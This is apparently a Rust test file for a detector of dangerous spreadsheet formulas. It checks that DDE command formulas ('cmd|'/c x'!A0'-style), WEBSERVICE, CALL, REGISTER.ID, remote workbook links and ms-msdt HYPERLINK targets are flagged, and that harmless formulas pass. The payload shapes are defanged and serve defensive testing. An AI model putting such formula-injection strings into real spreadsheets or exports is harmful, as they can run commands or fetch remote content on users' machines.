use super::*;

fn found(formula: &str) -> Vec<(LoadKind, String)> {
    let mut loads = Vec::new();
    loads_of(formula, "", &mut loads);
    let loads = loads.into_iter();
    loads.map(|load| (load.kind, load.target)).collect()
}

#[test]
fn what_formulas_do() {
    for (formula, kind) in [
        ("=inert|'/c x'!A0", LoadKind::DdeFormula),
        ("1+inert|' /c x'!'x'", LoadKind::DdeFormula),
        ("'Excel'|Sheet1!R1C1", LoadKind::DdeFormula),
        ("inert|/c x y!A0", LoadKind::DdeFormula),
        ("=A1 inert|'/c x'!A0", LoadKind::DdeFormula),
        ("=A1:inert|'/c x'!A0", LoadKind::DdeFormula),
        (
            "=_xlfn.WEBSERVICE(\"http://example.invalid/\")",
            LoadKind::Formula,
        ),
        ("of:=COM.MICROSOFT.WebService(A1)", LoadKind::Formula),
        ("IF(A1,CALL(\"inert\",\"x\",\"J\"))", LoadKind::Formula),
        ("REGISTER.ID (\"inert\",\"x\")", LoadKind::Formula),
        (
            "=importxml(\"http://example.invalid/\",1)",
            LoadKind::Formula,
        ),
    ] {
        assert_eq!(found(formula), [(kind, formula.to_owned())], "{formula}");
    }
    for (formula, kind, target) in [
        (
            "=DDE(\"inert\";\"/c x\";\"y\")",
            LoadKind::DdeFormula,
            "inert|/c x!y",
        ),
        (
            "='\\\\example.invalid\\s\\[b.xls]S'!R1C1",
            LoadKind::Workbook,
            "\\\\example.invalid\\s\\b.xls",
        ),
        (
            "='\\\\example.invalid\\s\\b.xls'!Name",
            LoadKind::Workbook,
            "\\\\example.invalid\\s\\b.xls",
        ),
        ("=[b.xls]S!RC", LoadKind::Workbook, "b.xls"),
    ] {
        assert_eq!(found(formula), [(kind, target.to_owned())], "{formula}");
    }
}

#[test]
fn what_only_computes() {
    for formula in [
        "=SUM(R[-1]C[2]:RC)",
        "=IF(RC=\"a|b [c.xls]\",1,2)",
        "=RECALL(1)+\"CALL(\"",
        "=CALLS",
        "A1&\"|\"&B1&\"!\"",
        "'a|b'!A1",
        "\"cmd|'/c inert'!A0\"",
        "=SUM(Table1[Amount])/Table1[[#This Row],[a]]",
        "[1]Sheet1!A1/2",
        "{1;2|3}",
    ] {
        assert_eq!(found(formula), [], "{formula}");
    }
}

#[test]
fn where_clicks_lead() {
    for (formula, targets, computed) in [
        (
            "HYPERLINK(\"ms-msdt:/id x\",\"y\")",
            &["ms-msdt:/id x"][..],
            false,
        ),
        (
            "=1+hyperlink (\"http://example.invalid/a\",\"b\")",
            &["http://example.invalid/a"],
            false,
        ),
        ("HYPERLINK(\"ms-\" & \"msdt:x\")", &["ms-msdt:x"], false),
        (
            "HYPERLINK(CONCATENATE(\"ms-\",\"msdt:x\"),A1)",
            &["ms-msdt:x"],
            false,
        ),
        (
            "HYPERLINK(\"http://example.invalid/?\"&A1&\"&b\")",
            &["http://example.invalid/?…&b"],
            true,
        ),
        (
            "HYPERLINK(\"http://example.invalid/?\"&A1)",
            &["http://example.invalid/?…"],
            true,
        ),
        (
            "HYPERLINK(\"http://example.invalid/?a&b\")",
            &["http://example.invalid/?a&b"],
            false,
        ),
        ("HYPERLINK(IF(A1,\"a:x\",\"b:y\"))", &["a:x", "b:y"], false),
        ("HYPERLINK(A1&\"x\",\"y\")", &["…x"], true),
        ("HYPERLINK(A1)", &[], false),
    ] {
        let expected: Vec<_> = targets
            .iter()
            .map(|target| (LoadKind::Hyperlink, (*target).to_owned()))
            .collect();
        assert_eq!(found(formula), expected, "{formula}");
        assert_eq!(tells_cells(formula), computed, "{formula}");
    }
}

#[test]
fn cells_that_are_formulas() {
    let acts = |cell: &str| {
        let mut loads = Vec::new();
        loads_of_cell(cell, "", &mut loads);
        !loads.is_empty()
    };
    for cell in [
        "=inert|x!y",
        " \u{A0}=inert|'/c x'!A1",
        "@inert|'/c x'!A1",
        "-2+3+inert|' /C x'!A0",
        "+cmd|x!y",
        "- cmd|x!y",
        "=A1 cmd|'/c x'!A0",
        "=WEBSERVICE(\"http://example.invalid/\"&A1)",
        "+HYPERLINK(\"http://example.invalid/\")",
    ] {
        assert!(acts(cell), "{cell}");
    }
    for cell in [
        "-a|b!c",
        "- name: \"x|y!z\"",
        "- a|'b'!c",
        "+if (a||!b)",
        "- see a|b!c",
        "inert|'/c x'!A1",
        "= a list of cmd|x!y",
        "=two words|'x'!y",
        "+call(\"x\")",
        "- two words WEBSERVICE(\"x\")",
    ] {
        assert!(!acts(cell), "{cell}");
    }
}

/// The judge goes over a formula a few times, whatever is in it.
#[test]
fn hostile_formulas_cost_their_length() {
    for piece in [
        "a|'",
        "HYPERLINK(",
        "'",
        "[",
        "a|b!",
        "\"\"&",
        "HYPERLINK(\"",
        "(((((",
        " |a",
    ] {
        let formula = format!("={}", piece.repeat(60_000 / piece.len()));
        let started = std::time::Instant::now();
        let _ = found(&formula);
        assert!(started.elapsed().as_secs() < 5, "{piece}");
    }
}
